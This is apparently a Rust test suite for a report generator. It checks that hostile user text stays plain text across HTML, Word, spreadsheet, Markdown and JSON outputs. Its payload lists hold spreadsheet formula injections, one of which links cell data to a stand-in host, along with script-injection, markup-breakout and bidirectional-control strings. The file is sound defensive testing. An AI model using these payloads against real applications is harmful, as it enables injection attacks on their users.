//! Hostile and hard text in every field of a person's, in every format: it comes out as the text that it is.

use std::fs;
use std::path::Path;

use assure::assessment::Period;
use assure::checklist::{Checklist, Role, TopicId};
use assure::compare::{Side, chain, diff, trend};
use assure::diagnostic::{clean, is_unseen};
use assure::document::{comparison, quartet::page as quartet_page, report::page, trend::page as trend_page};
use assure::escape::one_line;
use assure::quartet::quartet;
use assure::render::html::html;
use assure::render::{ALL, Format, Rendering};
use assure::report::{Audience, Report, report};

use super::fields::{checklist, filled};
use super::read::{Said, folded, read};
use super::{FULL, made, of_blocks};

/// What some program takes for more than text where a text begins with it.
const AT_THE_START: &[&str] = &[
    "=HYPERLINK(\"http://x.example/\"&A1,\"x\")",
    "+1+1",
    "-1+1 x",
    "@SUM(A1)",
    "\t=1",
    "\"',;|",
    "# x",
    "| a | b |",
    "```",
    "1. x",
    "- x",
    "javascript:alert(1)",
    "\u{202e}x",
];

/// What some program takes for more than text wherever it stands.
const ANYWHERE: &[&str] = &[
    "{=1}",
    "_x0041_",
    "</w:t></w:r><w:r><w:t>x",
    "]]><x>&amp;&#0;",
    "</title></style></script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "\"'><svg/onload=x> &lt;b&gt; {{x}}",
    "<!-- x",
    "{ PAGE } MERGEFIELD",
    "<b>x</b>",
    "> *a* _b_ ~~c~~ `d",
    "[x](y) ![x](javascript:alert(1)) <https://x.example>",
    "\u{1}\u{8}\u{1b}[2J\u{1f}\u{7f}\u{9f}\u{fffe}\u{ffff}\u{0}",
    "\u{202e}abc\u{2066}\u{200f}\u{200b}\u{e0041}x",
    "Pobl ifanc ym Môn: ŵ ŷ â, Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦 ❤\u{fe0f}\u{200d}🔥 👍🏽 🏴 \u{10ffff}",
    "اردو 12 and שלום",
    "a\\",
];

/// Each of those, and all of these in one.
fn in_a_line() -> Vec<String> {
    let mut texts: Vec<String> = AT_THE_START.iter().map(|t| (*t).to_owned()).collect();
    texts.push(format!("x {}", ANYWHERE.join(" ")));
    texts
}

/// Texts of several lines: their lists are lists, and what is in them is text.
const IN_LINES: &[&str] = &[
    "a\r\n=b\n\n- c\n- d\n\n1. e\n2. f",
    "x\n# y\n\n---\n| a |\n|---|\n\n<b>z</b>\n\n```\nw",
    "- <i>a</i>\n- =1+1\n- [x](y)",
];

/// What is harmless, to compare with.
const CALM: &str = "Calm";

/// A report with a text in every field that a person writes, what changed since the year before in it.
pub fn report_with(c: &Checklist, text: &str) -> Report {
    let of = |year: &str| {
        let mut a = filled(&[], |_, _| text.to_owned()).assessment();
        a.period = Period::parse(year).unwrap();
        a
    };
    let (mut last, now) = (of("2025-26"), of("2026-27"));
    // Better than it is now, so that the comparison has something to say of it.
    for answer in last.answers.values_mut() {
        answer.rating = Some(3);
        answer.finding = Some("As it was".to_owned());
        answer.evidence.clear();
        answer.actions.truncate(1);
    }
    let mut made = report(c, &now, Audience::Full, "assure");
    let changed = diff(Side::new(c, &last), Side::new(c, &now), &chain(c, c, &[]).unwrap());
    made.previous = Some(Box::new(changed));
    made
}

/// What a format makes of a text of one line.
fn seen(format: &Format, text: &str) -> String {
    match format.source {
        Rendering::Data => folded(text),
        Rendering::Blocks(_) | Rendering::Running(_) => folded(&xml_sees(format, &clean(&one_line(text)))),
        Rendering::Report(_) => folded(&xml_sees(format, &clean(text))),
    }
}

/// No XML and no page holds what is no character; text and Markdown do.
fn xml_sees(format: &Format, text: &str) -> String {
    if matches!(format.name, "text" | "markdown") {
        return text.to_owned();
    }
    let is_none = |c: char| c as u32 & 0xfffe == 0xfffe && (c as u32) < 0x10000;
    let last = |c: char| format.name == "html" && c as u32 & 0xfffe == 0xfffe;
    text.chars()
        .map(|c| if is_none(c) || last(c) { '\u{fffd}' } else { c })
        .collect()
}

/// Each piece with the text in it replaced by a sign.
fn shape(said: &Said, text: &str) -> Vec<(String, String)> {
    // A space at an end of a text is nobody's.
    let replaced = |(kind, piece): &(String, String)| {
        let piece = piece.replace(text, "§").replace(" §", "§").replace("§ ", "§");
        (kind.clone(), piece)
    };
    said.pieces.iter().map(replaced).collect()
}

/// Nothing turns the reading direction, acts or hides, but what joins pictures. JSON writes it as an escape.
fn nothing_unseen(format: &Format, bytes: &[u8], said: &Said, text: &str) {
    let joins = |c: char| matches!(c, '\u{200d}' | '\u{fe0f}');
    let raw = String::from_utf8_lossy(bytes);
    let all: Vec<&str> = match format.source {
        Rendering::Data => vec![&raw],
        _ => said.pieces.iter().map(|p| p.1.as_str()).collect(),
    };
    for piece in all {
        let found: Vec<char> = piece.chars().filter(|c| is_unseen(*c) && !joins(*c)).collect();
        assert!(found.is_empty(), "{}: {found:?} of {text:?}", format.name);
    }
}

#[test]
fn a_text_is_text_in_every_field_and_changes_no_shape() {
    let c = checklist();
    let calm = report_with(&c, CALM);
    let calm = ALL.map(|format| shape(&read(format, &made(format, &calm, FULL)), CALM));
    for (format, calm) in ALL.iter().zip(&calm) {
        let signs: usize = calm.iter().map(|p| p.1.matches('§').count()).sum();
        assert!(signs >= 12, "{}: {signs}", format.name);
    }
    for text in in_a_line() {
        let report = report_with(&c, &text);
        for (format, calm) in ALL.iter().zip(&calm) {
            let bytes = made(format, &report, FULL);
            let said = read(format, &bytes);
            nothing_unseen(format, &bytes, &said, &text);
            same(&shape(&said, &seen(format, &text)), calm, format, &text);
        }
    }
}

#[track_caller]
fn same(shape: &[(String, String)], calm: &[(String, String)], format: &Format, text: &str) {
    let other = shape.iter().zip(calm).find(|(a, b)| a != b);
    assert_eq!(other, None, "{}: {text:?}", format.name);
    assert_eq!(shape.len(), calm.len(), "{}: {text:?}", format.name);
}

/// The readers stop at whatever acts: a formula, an element, a link.
#[test]
fn lines_and_lists_of_a_text_hold_text() {
    let c = checklist();
    let many = "a\n\n".repeat(100);
    for text in IN_LINES.iter().copied().chain([many.as_str()]) {
        let report = report_with(&c, text);
        for format in ALL {
            let bytes = made(format, &report, FULL);
            let said = read(format, &bytes);
            nothing_unseen(format, &bytes, &said, text);
        }
    }
}

/// Two roles with a text in every field that a person writes, who diverge on a topic.
fn roles_with(c: &Checklist, text: &str) -> assure::quartet::Quartet {
    let mut ours = c.clone();
    for question in ours.sections.iter_mut().flat_map(|s| &mut s.questions) {
        question.topic = vec![TopicId::new("caseloads")];
    }
    let mut theirs = ours.clone();
    theirs.role = Role::Lmcs;
    let strong = filled(&[], |_, _| text.to_owned()).assessment();
    let mut weak = strong.clone();
    for answer in weak.answers.values_mut() {
        answer.rating = Some(0);
    }
    let made = quartet(&[Side::new(&ours, &strong), Side::new(&theirs, &weak)], Audience::Full).unwrap();
    assert!(!made.divergences.is_empty(), "{made:#?}");
    made
}

#[test]
fn comparison_trend_and_roles_side_by_side_hold_hostile_text_too() {
    let c = checklist();
    let of = |text: &str, year: &str| {
        let mut a = filled(&[], |_, _| text.to_owned()).assessment();
        a.period = Period::parse(year).unwrap();
        a
    };
    let pages = |text: &str| {
        let years = [of(text, "2025-26"), of(text, "2026-27")];
        let sides = years.each_ref().map(|a| Side::new(&c, a));
        [
            comparison::page(report_with(&c, text).previous.as_deref().unwrap()),
            trend_page(&trend(&sides, &[]).unwrap()),
            quartet_page(&roles_with(&c, text)),
        ]
    };
    let calm = pages(CALM);
    for text in in_a_line() {
        for (page, calm) in pages(&text).iter().zip(&calm) {
            for format in ALL {
                let (Some(bytes), Some(calm)) = (of_blocks(format, page), of_blocks(format, calm)) else {
                    continue;
                };
                let (said, calm) = (read(format, &bytes), read(format, &calm));
                nothing_unseen(format, &bytes, &said, &text);
                same(&shape(&said, &seen(format, &text)), &shape(&calm, CALM), format, &text);
            }
        }
    }
}

/// A word that no line holds.
fn long_word() -> String {
    "Llanfair".repeat(63).chars().take(500).collect()
}

/// Whatever a text's length, it is whole in every format; a cell of Excel holds 32,767 characters, and says what it has not got.
#[test]
fn a_long_text_is_there_whole_or_says_that_it_is_not() {
    let c = checklist();
    let word = long_word();
    let text = format!("{word} {}end", "word ".repeat(20));
    let finding = format!("{word} {}end", "word ".repeat(20_000));
    let (calm, long) = (report_with(&c, CALM), report_with(&c, &text));
    let mut longest = report_with(&c, CALM);
    // In one field: in all of them a test would read for a minute.
    longest.sections[1].answers[0].finding = Some(finding.clone());
    for format in ALL {
        let calm = read(format, &made(format, &calm, FULL));
        let said = read(format, &made(format, &long, FULL));
        assert_eq!(said.count(&text), calm.count(CALM), "{}", format.name);
        // This one has no findings.
        if format.name == "csv-actions" {
            continue;
        }
        let said = read(format, &made(format, &longest, FULL));
        if format.name == "xlsx" {
            let of_cut = |t: &str| t.starts_with(&word) && t.ends_with("in the report as Word or JSON]");
            assert_eq!(said.pieces.iter().filter(|(_, t)| of_cut(t)).count(), 1);
            assert!(said.pieces.iter().all(|(_, t)| t.chars().count() <= 32_767));
        } else {
            assert!(said.count(&finding) > 0, "{}: 100,000 characters", format.name);
        }
    }
}

/// For `.ci/pages.sh`, which looks whether the page still fits.
#[test]
fn a_hostile_page_is_kept_where_it_is_wanted() {
    let c = checklist();
    let word = long_word();
    let text = format!("{word} {} {}", ANYWHERE.join(" "), "word ".repeat(30));
    let made = html(&page(&report_with(&c, &text), FULL));
    assert!(made.contains(&word));
    if let Some(folder) = std::env::var_os("ASSURE_PAGES") {
        fs::write(Path::new(&folder).join("hostile.html"), made).unwrap();
    }
}
